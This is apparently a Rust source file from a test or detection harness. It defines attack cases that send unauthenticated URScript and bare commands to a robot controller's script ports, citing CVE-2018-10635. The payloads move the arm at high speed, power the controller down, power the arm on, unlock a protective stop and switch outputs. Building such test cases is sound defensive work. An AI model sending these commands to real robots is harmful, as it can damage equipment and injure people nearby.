//! Scripts and bare commands on the ports that execute what they are sent.

use std::fmt::Write;
use std::time::Duration;

use super::{Attack, Marker, OUTSIDER_AND_PLC, Session};

const OPEN_SCRIPT: &str = "CVE-2018-10635, RVD#673";

fn text(
    name: &'static str,
    description: &'static str,
    source: &'static str,
    port: u16,
    text: String,
    marker: &'static str,
) -> Attack {
    Attack {
        name,
        description,
        source,
        port,
        from: OUTSIDER_AND_PLC,
        markers: vec![Marker::Bytes(marker.into())],
        act: Box::new(move |target| {
            let mut session = Session::open(target, port);
            session.send(text.as_bytes());
            session.linger(Duration::from_millis(150));
            session.done()
        }),
    }
}

/// A program of about 20 kB, whose marker stands in its last statement.
fn long_program() -> String {
    let mut program = String::from("def attack_long():\n");
    for line in 0..500 {
        let _infallible = writeln!(program, "  write_output_integer_register({}, {line})", line % 24);
    }
    program.push_str("  set_digital_out(2, True)\n  textmsg(\"attack_long_reached\")\nend\n");
    program
}

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        text(
            "script-program",
            "uploads a small program that moves the arm",
            OPEN_SCRIPT,
            30002,
            "def attack_small():\n  movej([0, -1.2, 1.2, -1.5, -1.5, 0], a=8, v=3)\nend\n".into(),
            "def attack_small():",
        ),
        text("script-long", "uploads a program of 20 kB", OPEN_SCRIPT, 30001, long_program(), "attack_long_reached"),
        text(
            "script-secondary",
            "runs a secondary program beside the running one",
            OPEN_SCRIPT,
            30003,
            "sec attack_beside():\n  set_digital_out(6, True)\nend\n".into(),
            "sec attack_beside():",
        ),
        text(
            "script-powerdown",
            "one statement that shuts the controller down",
            "CVE-2018-10635, T0816",
            30002,
            "powerdown()\n".into(),
            "powerdown()",
        ),
        text("script-bare-power", "a bare command powers the arm", "T0855", 30001, "power on\n".into(), "power on"),
        text(
            "script-bare-unlock",
            "a bare command unlocks a protective stop",
            "T0878, T0880",
            30003,
            "set unlock protective stop\n".into(),
            "set unlock protective stop",
        ),
        text(
            "script-assignment",
            "an assignment, no call, switches an output",
            "T0835",
            30003,
            "digital_out[3]=True\n".into(),
            "digital_out[3]=True",
        ),
        text(
            "script-unterminated",
            "a statement without its newline, then the connection's end",
            OPEN_SCRIPT,
            30002,
            "set_digital_out(7, True)".into(),
            "set_digital_out(7, True)",
        ),
        text(
            "script-interpreter",
            "a line to the interpreter",
            OPEN_SCRIPT,
            30020,
            "set_digital_out(5, True)\n".into(),
            "set_digital_out(5, True)",
        ),
    ]
}
